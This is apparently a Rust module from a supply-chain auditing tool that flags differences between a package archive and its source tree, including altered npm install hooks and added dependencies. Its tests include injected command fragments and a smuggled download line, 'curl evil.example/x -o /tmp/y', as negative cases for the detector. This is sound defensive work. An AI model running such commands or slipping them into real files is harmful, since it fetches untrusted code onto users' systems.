//! A file of the tree that is another one in the archive.

use std::collections::BTreeSet;

use memchr::memmem;
use probity_sdk::findings::{Finding, Severity};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::compare::Case;
use crate::config::Kind;
use crate::roles::{Role, is_binary, is_shell};
use crate::rules::CHANGED_FILE;

/// Larger files are not looked into for what is put in.
const MOST_BYTES: usize = 8 << 20;
/// More than this many bytes are not put in at one place.
const MOST_PUT_IN: usize = 300;
/// What npm runs when a package is installed.
pub(crate) const HOOKS: [&str; 5] = ["preinstall", "install", "postinstall", "prepare", "prepublish"];
/// What setuptools writes at the end of `setup.cfg`.
const EGG_INFO: &str = "[egg_info]tag_build=tag_date=0";

/// What is to be said of a file whose content is `new`, and `old` in the tree (none: it is too large to be looked into).
pub(crate) fn finding(case: &Case<'_>, old: Option<&[u8]>, new: &[u8], substitutes: bool) -> Option<Finding> {
    let runs = case.role.runs() || is_shell(new);
    if let Some(old) = old.filter(|old| old.len() <= MOST_BYTES && new.len() <= MOST_BYTES) {
        let low = |message: &str| Some(case.finding(CHANGED_FILE, Severity::Low, message));
        if is_large_file(old, new) {
            return None;
        }
        if !is_binary(old) && without_returns(old) == without_returns(new) {
            return low("the file of the archive differs from that of the tree by the ends of its lines");
        }
        if substitutes && is_substituted(old, new, runs) {
            return low("the file of the archive differs from that of the tree by what export-subst puts in");
        }
        if case.kind == Kind::Sdist && case.path == b"setup.cfg" && is_egg_info(old, new) {
            return low("setuptools has written its section into the file");
        }
        if case.role == Role::PackageJson
            && let Some(why) = of_manifest(old, new)
        {
            let message = format!("the manifest of the archive {why}, unlike that of the tree");
            return Some(case.finding(CHANGED_FILE, Severity::High, message));
        }
    }
    let (severity, message) = match runs {
        true => (
            Severity::High,
            "the file, which runs when this is built or installed, is another one in the archive than in the tree",
        ),
        false => (Severity::Medium, "the file is another one in the archive than in the tree"),
    };
    Some(case.finding(CHANGED_FILE, severity, message))
}

/// Whether the tree has a pointer of Git LFS, and the archive the very file.
fn is_large_file(old: &[u8], new: &[u8]) -> bool {
    let Ok(pointer) = std::str::from_utf8(old) else { return false };
    let said = pointer.lines().find_map(|line| line.strip_prefix("oid sha256:"));
    let hex = || Sha256::digest(new).iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    pointer.starts_with("version https://git-lfs.github.com/spec/") && said.is_some_and(|said| said == hex())
}

fn without_returns(bytes: &[u8]) -> impl PartialEq {
    let is_kept = |(at, byte): &(usize, &u8)| **byte != b'\r' || bytes.get(at + 1) != Some(&b'\n');
    bytes.iter().enumerate().filter(is_kept).map(|(_, byte)| *byte).collect::<Vec<u8>>()
}

/// Whether `new` is `old` with something harmless in place of each `$Format:…$`.
fn is_substituted(old: &[u8], new: &[u8], runs: bool) -> bool {
    let parts = around_formats(old);
    let [first, between @ .., last] = &parts[..] else { return false };
    let Some(mut rest) = new.strip_prefix(*first) else { return false };
    for part in between {
        let Some(at) = memmem::find(rest, part) else { return false };
        if !is_harmless(&rest[..at], runs) {
            return false;
        }
        rest = &rest[at + part.len()..];
    }
    rest.strip_suffix(*last).is_some_and(|put_in| is_harmless(put_in, runs))
}

/// What stands before, between and behind the formats.
fn around_formats(bytes: &[u8]) -> Vec<&[u8]> {
    const BEGIN: &[u8] = b"$Format:";
    let (mut parts, mut rest) = (Vec::new(), bytes);
    while let Some(at) = memmem::find(rest, BEGIN) {
        let Some(end) = memchr::memchr(b'$', &rest[at + BEGIN.len()..]) else { break };
        parts.push(&rest[..at]);
        rest = &rest[at + BEGIN.len() + end + 1..];
    }
    parts.push(rest);
    parts
}

/// Ids, names, dates: nothing that ends a text or begins a command.
fn is_harmless(put_in: &[u8], runs: bool) -> bool {
    let signs: &[u8] = if runs { b".,:+-_/" } else { b" .,:+-_/()<>@~" };
    let is_word = put_in.iter().all(|byte| byte.is_ascii_alphanumeric() || signs.contains(byte));
    // Where it runs, what stands behind a blank may be a command. A date is none.
    let is_date = put_in.iter().all(|byte| byte.is_ascii_digit() || b" :+-".contains(byte));
    put_in.len() <= MOST_PUT_IN && (is_word || is_date)
}

fn is_egg_info(old: &[u8], new: &[u8]) -> bool {
    let text = |bytes| String::from_utf8_lossy(bytes).split_whitespace().collect::<String>();
    text(new).strip_prefix(&text(old)).is_some_and(|rest| rest == EGG_INFO)
}

/// What a manifest of npm runs or asks for that the other one does not.
pub(crate) fn of_manifest(old: &[u8], new: &[u8]) -> Option<String> {
    let read = |bytes| serde_json::from_slice::<Value>(bytes).unwrap_or(Value::Null);
    let (old, new) = (read(old), read(new));
    if new.is_null() {
        return Some("cannot be read".to_owned());
    }
    if let Some(hook) = HOOKS.iter().find(|hook| new["scripts"][**hook] != old["scripts"][**hook]) {
        return Some(format!("has another script {hook}"));
    }
    let names = |of: &Value| -> BTreeSet<String> {
        let kinds = ["dependencies", "optionalDependencies", "peerDependencies", "bundleDependencies"];
        let keys = kinds.iter().filter_map(|kind| of[kind].as_object()).flat_map(|all| all.keys());
        keys.cloned().collect()
    };
    let more = names(&new).difference(&names(&old)).next().cloned()?;
    Some(format!("asks for the package {:?}", probity_sdk::findings::shortened(&more)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_git_puts_in_is_known_and_nothing_else() {
        let old = b"id = \"$Format:%H$\"\nd = $Format:%ci$\nend\n";
        assert!(is_substituted(old, b"id = \"c0ffee\"\nd = 2026-01-01 00:00:00 +0100\nend\n", true));
        assert!(is_substituted(b"$Format:%d$", b" (HEAD -> main, tag: v1)", false));
        for new in [
            &b"id = \"a\"; evil(\"\"\nd = 1\nend\n"[..],
            b"id = \"a\"\nd = 1\nevil\nend\n",
            b"id = \"a\"\nd = `evil`\nend\n",
            b"x = \"a\"\nd = 1\nend\n",
            b"id = \"a\"\nd = 1\nend\nmore\n",
        ] {
            assert!(!is_substituted(old, new, false), "{}", String::from_utf8_lossy(new));
        }
        assert!(!is_substituted(b"a", b"b", false));
        assert!(!is_substituted(b"V=$Format:%h$", b"V=x curl evil.example/x -o /tmp/y", true));
    }

    #[test]
    fn a_manifest_is_worse_if_it_runs_or_asks_for_more() {
        let old = br#"{"scripts": {"test": "x"}, "dependencies": {"a": "1"}}"#;
        let of = |new: &str| of_manifest(old, new.as_bytes());
        assert_eq!(
            of(r#"{"scripts": {"postinstall": "node x"}}"#).as_deref(),
            Some("has another script postinstall")
        );
        assert_eq!(
            of(r#"{"dependencies": {"a": "2", "b": "1"}}"#).as_deref(),
            Some("asks for the package \"b\"")
        );
        assert_eq!(of("no").as_deref(), Some("cannot be read"));
        assert_eq!(of(r#"{"scripts": {"test": "y"}, "dependencies": {"a": "2"}}"#), None);
    }

    #[test]
    fn a_pointer_of_lfs_is_the_file_that_it_names() {
        let pointer = "version https://git-lfs.github.com/spec/v1\n\
                       oid sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\nsize 3\n";
        assert!(is_large_file(pointer.as_bytes(), b"abc"));
        assert!(!is_large_file(pointer.as_bytes(), b"abd"));
    }
}
